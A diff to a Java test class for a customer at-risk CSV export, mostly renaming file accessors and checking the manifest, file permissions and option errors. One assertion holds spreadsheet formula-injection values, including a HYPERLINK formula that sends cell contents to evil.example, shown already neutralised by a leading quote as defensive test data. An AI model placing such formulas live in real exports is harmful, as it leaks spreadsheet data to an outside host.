@@ -66,7 +66,7 @@ class AtRiskExportTest {
   }
 
   private static AtRiskExport.Options options(Path out, Integer top, byte[] key) {
-    return new AtRiskExport.Options(AS_OF, out, top, null, key, AtRiskExport.Rules.defaults());
+    return new AtRiskExport.Options(AS_OF, out.toString(), top, null, key, AtRiskExport.Rules.defaults());
   }
 
   @Test
@@ -76,9 +76,9 @@ class AtRiskExportTest {
     List<Row> expected = rows.collectAsList();
     ExportWriter.Written w = ExportWriter.write(rows, out, AS_OF, "v1");
 
-    assertThat(w.file()).isEqualTo(out.toAbsolutePath().resolve("at_risk/2024-06-30/at_risk_2024-06-30.csv"));
-    assertThat(ExportCsv.header(w.file())).containsExactly(AtRiskExport.COLUMNS);
-    List<CSVRecord> parsed = ExportCsv.read(w.file());
+    assertThat(w.localFile()).isEqualTo(out.toAbsolutePath().resolve("at_risk/2024-06-30/at_risk_2024-06-30.csv"));
+    assertThat(ExportCsv.header(w.localFile())).containsExactly(AtRiskExport.COLUMNS);
+    List<CSVRecord> parsed = ExportCsv.read(w.localFile());
     ExportCsv.assertSameRows(expected, parsed);
     assertThat(parsed.stream().map(r -> r.get(0)).toList()).containsExactly(
         "'+1", NEWLINES, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(A1:A9)", "'-2",
@@ -94,16 +94,16 @@ class AtRiskExportTest {
     assertThat(quoted.get(3)).isEqualTo("'=1+1");
     assertThat(parsed.get(0).get(9)).isEqualTo(AtRiskExport.VIP_CALL);
 
-    Map<?, ?> manifest = new ObjectMapper().readValue(w.folder().resolve(ExportWriter.MANIFEST).toFile(), Map.class);
+    Map<?, ?> manifest = new ObjectMapper().readValue(w.localFolder().resolve(ExportWriter.MANIFEST).toFile(), Map.class);
     assertThat(manifest.get("rows")).isEqualTo(7);
-    assertThat(manifest.get("sha256")).isEqualTo(ExportWriter.sha256(w.file()));
+    assertThat(manifest.get("sha256")).isEqualTo(ExportWriter.sha256(w.localFile()));
     assertThat(manifest.get("model_version")).isEqualTo("v1");
-    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(w.file()))).isEqualTo("rw-------");
-    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(w.folder()))).isEqualTo("rwx------");
-    try (Stream<Path> s = Files.list(w.folder().getParent())) {
+    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(w.localFile()))).isEqualTo("rw-------");
+    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(w.localFolder()))).isEqualTo("rwx------");
+    try (Stream<Path> s = Files.list(w.localFolder().getParent())) {
       assertThat(s.map(p -> p.getFileName().toString()).toList()).containsExactly("2024-06-30");
     }
-    assertThat(new String(Files.readAllBytes(w.file()), StandardCharsets.UTF_8)).contains("2.9×");
+    assertThat(new String(Files.readAllBytes(w.localFile()), StandardCharsets.UTF_8)).contains("2.9×");
   }
 
   @Test
@@ -112,8 +112,8 @@ class AtRiskExportTest {
     ExportWriter.write(AtRiskExport.compute(scores(), clv(), options(out, null, null)), out, AS_OF, "v1");
     ExportWriter.Written w = ExportWriter.write(AtRiskExport.compute(scores(), clv(), options(out, 2, null)), out,
         AS_OF, "v2");
-    assertThat(ExportCsv.read(w.file())).extracting(r -> r.get(0)).containsExactly("'+1", NEWLINES);
-    try (Stream<Path> s = Files.list(w.folder().getParent())) {
+    assertThat(ExportCsv.read(w.localFile())).extracting(r -> r.get(0)).containsExactly("'+1", NEWLINES);
+    try (Stream<Path> s = Files.list(w.localFolder().getParent())) {
       assertThat(s.count()).isEqualTo(1);
     }
   }
@@ -130,7 +130,7 @@ class AtRiskExportTest {
 
   @Test
   void badOptionsAreRefusedWithTheirValue() {
-    assertThatThrownBy(() -> new AtRiskExport.Options(AS_OF, Path.of("x"), 5, 0.5, null,
+    assertThatThrownBy(() -> new AtRiskExport.Options(AS_OF, "x", 5, 0.5, null,
         AtRiskExport.Rules.defaults())).hasMessage("export: give either a top N or a minimum risk, not both");
     assertThatThrownBy(() -> options(Path.of("x"), 0, null)).hasMessage("export: top must be at least 1, cannot be: 0");
     assertThatThrownBy(() -> options(Path.of("x"), null, new byte[4]))
